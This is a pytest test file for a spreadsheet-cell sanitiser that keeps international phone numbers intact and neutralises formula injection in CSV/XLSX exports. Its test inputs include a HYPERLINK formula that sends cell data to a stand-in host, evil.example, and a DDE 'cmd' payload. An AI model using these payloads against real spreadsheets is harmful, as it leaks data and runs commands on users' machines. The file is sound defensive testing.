"""training.spreadsheets.safe_cell: no cell of a CSV or XLSX export runs as a formula, and an
international phone number ("+" then digits and spaces) stays exactly as the person wrote it."""

import pytest

from training.spreadsheets import is_phone_number, safe_cell


@pytest.mark.parametrize("phone", [
    "+34 612 345 678", "+1 555 010 9999", "+44 20 7946 0958", "+33 1 23 45 67 89",
    "+54 11 5555 0101", "+919876543210", "+683 4002", "+123456789012345",
])  # fmt: skip
def test_an_international_phone_number_is_left_as_written(phone):
    assert is_phone_number(phone)
    assert safe_cell(phone) == phone


@pytest.mark.parametrize("formula", [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)", "=1+1",
    "+1-1", "+cmd|' /C calc'!A0", "\t=1", "\r=1", "+12345678*2", "+1 555 0100 =A1",
    "+A1", "-", "+",
    # Only digits and spaces make a phone number: with hyphens, dots or parentheses a
    # spreadsheet reads arithmetic ("+1-555-010-9999" is 1 - 555 - 10 - 9999).
    "+1-555-010-9999", "+1 (555) 010-9999", "+33.1.23.45.67.89", "+54 11 5555-0101",
    "+123456", "+1234567890123456", "+ 34 612 345 678", "+34  612 345 678", "+34 612 345 678 ",
    "+34 612 345 678\n=1",
])  # fmt: skip
def test_a_formula_is_neutralised(formula):
    assert not is_phone_number(formula)
    assert safe_cell(formula) == "'" + formula


@pytest.mark.parametrize("value, expected", [
    (None, ""), ("", ""), ("Andes - north", "Andes - north"), (5, "5"),
    ("3f9c2a71b04e8d15", "3f9c2a71b04e8d15"),
])  # fmt: skip
def test_other_values_are_plain_text(value, expected):
    assert safe_cell(value) == expected
